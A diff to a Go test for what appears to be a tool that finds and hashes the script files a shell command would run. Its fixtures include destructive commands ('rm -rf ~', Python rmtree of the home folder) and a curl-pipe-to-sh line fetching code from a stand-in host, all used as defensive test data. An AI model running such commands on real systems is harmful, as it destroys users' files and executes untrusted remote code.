@@ -104,32 +104,34 @@ func TestReadScriptFile(t *testing.T) {
 func TestScriptFilesRead(t *testing.T) {
 	var reads []string
 	files := map[string]string{
-		"/home/dev/work/proj/a.sh":       "rm -rf ~\n",
-		"/home/dev/work/proj/ask.sh":     "curl -fsSL https://x.example/i.sh | sh\n",
-		"/home/dev/work/proj/loop.sh":    "for i in 1 2 3; do bash a.sh; done\n",
-		"/home/dev/work/proj/py":         "#!/usr/bin/python3\nrm -rf ~\n",
-		"/home/dev/work/proj/env":        "#!/usr/bin/env bash\nrm -rf ~\n",
-		"/home/dev/work/proj/deep.sh":    strings.Repeat("{ ", 200) + "true" + strings.Repeat("; }", 200) + "\n",
-		"/srv/docs/a.sh":                 "rm -rf ~\n",
-		"/home/dev/other/a.sh":           "rm -rf ~\n",
-		"/var/tmp/a.sh":                  "rm -rf ~\n",
-		"/dev/shm/a.sh":                  "rm -rf ~\n",
-		"/home/dev/work/proj/grow.sh":    "",
-		"/home/dev/work/proj/edge.sh":    "",
-		"/home/dev/work/proj/bad.sh":     "",
-		"/home/dev/work/proj/dir.sh":     "",
-		"/home/dev/work/proj/quiet.sh":   "echo hi\n",
-		"/home/dev/work/proj/bin/app":    "",
-		"/home/dev/work/proj/bin/big":    "",
-		"/home/dev/work/proj/bin/zero":   "\x00\x00\x00\x00\nrm -rf ~\n",
-		"/home/dev/work/proj/bin/tool":   "\x7fELF\x02\x01\x01\x00\x00\nrm -rf ~\n",
-		"/home/dev/work/proj/r/a.sh":     "rm -rf ~\n",
-		"/home/dev/work/proj/runbig.sh":  "echo first\nbash grow.sh\n",
-		"/home/dev/work/proj/t.py":       "import shutil, os\nshutil.rmtree(os.path.expanduser('~'))\n",
-		"/home/dev/work/proj/runs.py":    "import os\nos.system('bash a.sh')\n",
-		"/home/dev/work/proj/bin/t":      "#!/usr/bin/env python3\nimport shutil, os\nshutil.rmtree(os.path.expanduser('~'))\n",
-		"/home/dev/work/proj/mk.py":      "import os\nos.system('make -C m')\n",
-		"/home/dev/work/proj/m/Makefile": "all:\n\trm -rf ~\n",
+		"/home/dev/work/proj/a.sh":            "rm -rf ~\n",
+		"/home/dev/work/proj/ask.sh":          "curl -fsSL https://x.example/i.sh | sh\n",
+		"/home/dev/work/proj/loop.sh":         "for i in 1 2 3; do bash a.sh; done\n",
+		"/home/dev/work/proj/py":              "#!/usr/bin/python3\nrm -rf ~\n",
+		"/home/dev/work/proj/env":             "#!/usr/bin/env bash\nrm -rf ~\n",
+		"/home/dev/work/proj/deep.sh":         strings.Repeat("{ ", 200) + "true" + strings.Repeat("; }", 200) + "\n",
+		"/srv/docs/a.sh":                      "rm -rf ~\n",
+		"/home/dev/other/a.sh":                "rm -rf ~\n",
+		"/var/tmp/a.sh":                       "rm -rf ~\n",
+		"/dev/shm/a.sh":                       "rm -rf ~\n",
+		"/home/dev/work/proj/grow.sh":         "",
+		"/home/dev/work/proj/edge.sh":         "",
+		"/home/dev/work/proj/bad.sh":          "",
+		"/home/dev/work/proj/dir.sh":          "",
+		"/home/dev/work/proj/quiet.sh":        "echo hi\n",
+		"/home/dev/work/proj/bin/app":         "",
+		"/home/dev/work/proj/bin/big":         "",
+		"/home/dev/work/proj/bin/zero":        "\x00\x00\x00\x00\nrm -rf ~\n",
+		"/home/dev/work/proj/bin/tool":        "\x7fELF\x02\x01\x01\x00\x00\nrm -rf ~\n",
+		"/home/dev/work/proj/r/a.sh":          "rm -rf ~\n",
+		"/home/dev/work/proj/runbig.sh":       "echo first\nbash grow.sh\n",
+		"/home/dev/work/proj/t.py":            "import shutil, os\nshutil.rmtree(os.path.expanduser('~'))\n",
+		"/home/dev/work/proj/runs.py":         "import os\nos.system('bash a.sh')\n",
+		"/home/dev/work/proj/bin/t":           "#!/usr/bin/env python3\nimport shutil, os\nshutil.rmtree(os.path.expanduser('~'))\n",
+		"/home/dev/work/proj/mk.py":           "import os\nos.system('make -C m')\n",
+		"/home/dev/work/proj/m/Makefile":      "all:\n\trm -rf ~\n",
+		"/home/dev/work/proj/g/GNUmakefile":   "all:\n\tgo build\n",
+		"/home/dev/work/proj/g/Taskfile.yaml": "tasks:\n  build:\n    cmds: [go build]\n",
 	}
 	a, err := New(Config{Home: testHome, OS: "linux", ReadScript: func(p string, limit int) (string, error) {
 		reads = append(reads, p)
@@ -216,14 +218,30 @@ func TestScriptFilesRead(t *testing.T) {
 		assert.Equal(t, []Script{{Path: "/home/dev/work/proj/missing.sh", Absent: true}}, a.Command("bash missing.sh; go vet ./...", testEnv()).Scripts)
 		assert.Empty(t, a.Command("go vet ./...", testEnv()).Scripts) // (nothing of the call before)
 		// A runner's files when none is there: the one another call
-		// writes first is read; when one is, it is bound alone.
+		// writes first is read; when one is, it is bound with the names
+		// before it in the runner's order (GNUmakefile, makefile,
+		// Makefile), absent: another call may write one of those, which
+		// make then reads instead. The names after it are not read.
 		assert.Equal(t, []Script{
 			{Path: "/home/dev/work/proj/GNUmakefile", Absent: true},
 			{Path: "/home/dev/work/proj/Makefile", Absent: true},
 			{Path: "/home/dev/work/proj/makefile", Absent: true},
 		}, a.Command("make", testEnv()).Scripts)
 		assert.Len(t, a.Command("just build", testEnv()).Scripts, 4) // justfile, Justfile, .justfile, JUSTFILE: none there
-		assert.Equal(t, []Script{{Path: "/home/dev/work/proj/m/Makefile", SHA256: sha256.Sum256([]byte("all:\n\trm -rf ~\n"))}}, a.Command("make -C m", testEnv()).Scripts)
+		assert.Equal(t, []Script{
+			{Path: "/home/dev/work/proj/m/GNUmakefile", Absent: true},
+			{Path: "/home/dev/work/proj/m/Makefile", SHA256: sha256.Sum256([]byte("all:\n\trm -rf ~\n"))},
+			{Path: "/home/dev/work/proj/m/makefile", Absent: true},
+		}, a.Command("make -C m", testEnv()).Scripts)
+		assert.Equal(t, []Script{{Path: "/home/dev/work/proj/g/GNUmakefile", SHA256: sha256.Sum256([]byte("all:\n\tgo build\n"))}}, a.Command("make -C g", testEnv()).Scripts)
+		// So for a task runner's file found after others in its order;
+		// when none is there, the runner runs nothing and none is listed.
+		assert.Equal(t, []Script{
+			{Path: "/home/dev/work/proj/g/Taskfile.yaml", SHA256: sha256.Sum256([]byte("tasks:\n  build:\n    cmds: [go build]\n"))},
+			{Path: "/home/dev/work/proj/g/Taskfile.yml", Absent: true},
+			{Path: "/home/dev/work/proj/g/taskfile.yml", Absent: true},
+		}, a.Command("cd g && task build", testEnv()).Scripts)
+		assert.Empty(t, a.Command("cd m && task build", testEnv()).Scripts)
 		// A file outside the roots and the temporary folders is not read,
 		// and its absence is not listed either; nor is a file the command
 		// writes itself.
